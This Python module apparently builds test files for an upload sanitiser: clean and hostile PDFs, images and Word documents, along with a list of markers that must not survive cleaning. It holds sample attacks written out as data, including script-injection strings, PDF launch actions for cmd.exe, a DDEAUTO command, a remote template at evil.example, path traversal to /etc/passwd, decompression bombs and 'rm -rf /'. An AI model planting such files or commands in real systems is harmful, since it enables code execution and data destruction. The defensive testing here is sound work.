"""Files that somebody may send, made here: harmless ones, and those made to hurt."""

import struct
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from organising.files.content.findings import Clean, Refusal
from organising.files.content.reading import read_content
from organising.files.kinds import MATERIALS

SCRIPT = b"<script>alert(document.cookie)</script>"
OPEN_XML = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
DOCX = TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{OPEN_XML}.main+xml"/>')
MACROS = TYPES.format(
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def picture(kind="JPEG", size=(640, 480), **options) -> bytes:
    made = BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(made, kind, **options)
    return made.getvalue()


def photograph(size=(1200, 800)) -> bytes:
    """As a phone takes it: place, device and turn."""
    details = Image.Exif()
    details[0x010F], details[0x0112] = "Telling Phone", 6
    details.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    return picture(size=size, exif=details, comment=b"Telling comment")


def animation(kind="GIF") -> bytes:
    frames = [Image.new("RGB", (60, 40), (shade, 0, 0)) for shade in (10, 120, 240)]
    made = BytesIO()
    frames[0].save(made, kind, save_all=True, append_images=frames[1:], duration=100)
    return made.getvalue()


def png(*chunks: tuple[bytes, bytes], width=8, height=8) -> bytes:
    """A PNG of these sizes with chunks of one's own; the pixels are none where it claims to be huge."""
    rows = zlib.compress(b"".join(b"\0" + b"\x80" * width for _ in range(min(height, 8))))
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )


def pdf(change=None, **options) -> bytes:
    """A PDF of one page; ``change`` does something to it first."""
    document, made = pikepdf.new(), BytesIO()
    document.add_blank_page()
    if change is not None:
        change(document)
    document.save(made, **options)
    return made.getvalue()


def _on_opening(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('telling')"))
    names = Array([String("a"), Dictionary(S=Name.JavaScript, JS=String("app.alert('telling')"))])
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _launching(document):
    action = Dictionary(
        S=Name.Launch, F=String("cmd.exe telling"), Next=Dictionary(S=Name.JavaScript, JS=String("1"))
    )
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)]
    )


def _straying(document):
    action = Dictionary(S=Name.URI, URI=String("javascript:telling()"))
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)]
    )


def _attaching(document):
    document.attachments["telling.exe"] = b"MZ telling program"


def _describing(document):
    document.docinfo["/Author"] = "Telling Author"
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = ["Telling Author"]


def _picturing(document):
    image = document.make_stream(photograph())
    for name, value in {"Type": Name.XObject, "Subtype": Name.Image, "Filter": Name.DCTDecode}.items():
        image[f"/{name}"] = value
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = 1200, 800, 8, Name.DeviceRGB
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))


PDFS = {
    "PDF with JavaScript": _on_opening,
    "PDF that starts a program": _launching,
    "PDF with a link that is a script": _straying,
    "PDF with a program attached": _attaching,
    "PDF that names its author": _describing,
    "PDF with a photograph's place": _picturing,
}


def office(parts: dict[str, bytes | str] | None = None, types=DOCX) -> bytes:
    """A Word document of little, and what else is said."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w:document><w:t>Harmless words</w:t></w:document>")
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return made.getvalue()


# What LZMA says of itself before the packed bytes: altered there it would be refused before it is read.
LZMA_HEAD = 9


def altered(content: bytes, method: int) -> bytes:
    """The same archive packed another way, with the packed bytes of every part altered."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(made, "w", method) as new:
        for part in old.infolist():
            new.writestr(part.filename, old.read(part.filename))
        parts = new.infolist()
    packed = bytearray(made.getvalue())
    for one in parts:
        start = one.header_offset + 30 + len(one.filename)
        middle = slice(start + LZMA_HEAD, start + one.compress_size)
        packed[middle] = bytes(255 - byte for byte in packed[middle])
    return bytes(packed)


def bomb(inside=200 * 2**20) -> bytes:
    """Two hundred megabytes of nothing in two hundred kilobytes."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(inside // 2**20):
                part.write(bytes(2**20))
    return made.getvalue()


def pdf_bomb() -> bytes:
    """A PDF whose objects are packed four hundred times as large as it is."""
    packed = zlib.compress(b"1 0 " + b" " * (2000 * 2**20 // 8), 9)
    packed = zlib.compress(packed) if len(packed) > 14 * 2**20 else packed
    return (
        b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n"
    )


def to_clean() -> dict[str, tuple[str, bytes]]:
    """What is kept, made anew: by what it is, its name and its bytes."""
    made = {title: ("paper.pdf", pdf(change)) for title, change in PDFS.items()}
    return made | {
        "photograph with its place": ("p.jpg", photograph()),
        "picture followed by a web page": ("p.jpg", picture() + SCRIPT),
        "picture followed by an archive": ("p.jpg", picture() + office()),
        "picture with a script in its comment": ("p.jpg", picture(comment=SCRIPT)),
        "PNG with a script in its text": ("p.png", png((b"tEXt", b"Comment\0" + SCRIPT))),
        "PNG named as a PDF": ("paper.pdf", picture("PNG")),
        "animated GIF": ("p.gif", animation()),
        "animated WebP": ("p.webp", animation("WEBP")),
        "GIF that is JavaScript too": ("p.gif", animation() + b"/*" + SCRIPT + b"*/"),
        "PDF followed by an archive": ("paper.pdf", pdf() + office()[:1500]),
        "document that names its author": (
            "a.docx",
            office({"docProps/core.xml": "<cp:coreProperties><dc:creator>Telling Author</dc:creator></cp:coreProperties>"}),
        ),
        "document with a photograph's place": ("a.docx", office({"word/media/image1.jpg": photograph()})),
        "table with formulas": ("a.csv", b"name,sum\nAnn,=HYPERLINK(\"http://telling\")\n"),
        "text in Windows's encoding": ("a.txt", "Café".encode("cp1252")),
    }  # fmt: skip


def to_refuse() -> dict[str, tuple[str, bytes]]:
    """What is not kept."""
    return {
        "nothing": ("a.txt", b""),
        "SVG with a script": ("p.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
        "SVG named as a picture": ("p.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
        "web page named as a picture": ("p.jpg", b"<!DOCTYPE html><html>" + SCRIPT),
        "web page named as text": ("a.txt", b"  \n<html>" + SCRIPT),
        "web page in UTF-16 named as text": ("a.txt", ("<html>" + SCRIPT.decode()).encode("utf-16")),
        "truncated JPEG": ("p.jpg", photograph()[:2000]),
        "truncated PNG": ("p.png", picture("PNG")[:900]),
        "JPEG that is only a mark": ("p.jpg", b"\xff\xd8\xff" + b"\0" * 99),
        "PNG of 30,000 by 30,000": ("p.png", png(width=30_000, height=30_000)),
        "PNG of 9,000 by 9,000": ("p.png", png(width=9_000, height=9_000)),
        "PNG with a bomb in its text": (
            "p.png",
            png((b"zTXt", b"Comment\0\0" + zlib.compress(bytes(90 * 2**20)))),
        ),
        "truncated PDF": ("paper.pdf", pdf()[:300]),
        "PDF that is none": ("paper.pdf", b"%PDF-1.7\nnothing\n%%EOF\n"),
        "PDF with a password": ("paper.pdf", pdf(encryption=pikepdf.Encryption(user="a", owner="b"))),
        "PDF that is a bomb": ("paper.pdf", pdf_bomb()),
        "PDF behind a script": ("paper.pdf", SCRIPT + pdf()),
        "document with macros": ("a.docm", office({"word/vbaProject.bin": b"\xd0\xcf"}, MACROS)),
        "macros that call themselves none": ("a.docx", office({"word/vbaProject.bin": b"\xd0\xcf"})),
        "document that fetches a template": (
            "a.docx",
            office({"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate")}),
        ),
        "document with a program in it": ("a.docx", office({"word/embeddings/oleObject1.bin": b"MZ"})),
        "document that starts a program": (
            "a.docx",
            office({"word/footer1.xml": '<w:instrText>DDEAUTO c:\\cmd.exe "/c calc"</w:instrText>'}),
        ),
        "document with entities": ("a.docx", office({"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})),
        "document out of its folder": ("a.docx", office({"../../etc/passwd": "x"})),
        "zip bomb": ("a.docx", bomb()),
        "archive": ("a.docx", office({"run.txt": "x"}, TYPES.format(""))),
        "older Word document": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        "rich text": ("a.rtf", b"{\\rtf1 hello}"),
        "program named as a picture": ("p.jpg", b"MZ" + bytes(600)),
        "shell script named as text": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
        "HEIC": ("p.heic", b"\0\0\0\x18ftypheic" + bytes(600)),
        "bytes named as a picture": ("p.jpg", bytes(range(1, 255)) * 9),
        "bytes named as text": ("a.txt", bytes(range(1, 255)) * 9),
        "words named as a picture": ("p.jpg", b"Only words."),
    }  # fmt: skip


# What the corpus hides: in no content that is kept may one of these be found, packed or not.
TELLING = (
    b"telling",
    b"<script",
    b"alert(",
    b"JavaScript",
    b"Launch",
    b"EmbeddedFile",
    b"PK\x05\x06",
    b"GPS",
)


def read(name: str, content: bytes, kinds=MATERIALS) -> Clean | str:
    """What the product's reader makes of it, or why it refuses it."""
    try:
        return read_content(content, name.rpartition(".")[2], kinds)
    except Refusal as refusal:
        return refusal.reason


def read_each(corpus: dict[str, tuple[str, bytes]]) -> dict[str, Clean | str]:
    """The same for each of a corpus."""
    with ThreadPoolExecutor(2) as pool:
        return dict(zip(corpus, pool.map(lambda one: read(*one), corpus.values()), strict=True))


def unpacked(content: bytes) -> bytes:
    """All that is in it, as a reader would come upon it."""
    if content.startswith(b"%PDF"):
        with pikepdf.open(BytesIO(content)) as document:
            streams = [one.read_raw_bytes() for one in document.objects if isinstance(one, pikepdf.Stream)]
            shown = b"".join(one.unparse(resolved=True) for one in document.objects)
            return shown + b"".join(streams) + content[-64:]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(content)) as archive:
            return b"".join(archive.read(name) for name in archive.namelist())
    return content


def find_telling(content: bytes) -> list[bytes]:
    """Which of what was hidden is still in it."""
    inside = unpacked(content).lower()
    return [mark for mark in TELLING if mark.lower() in inside]
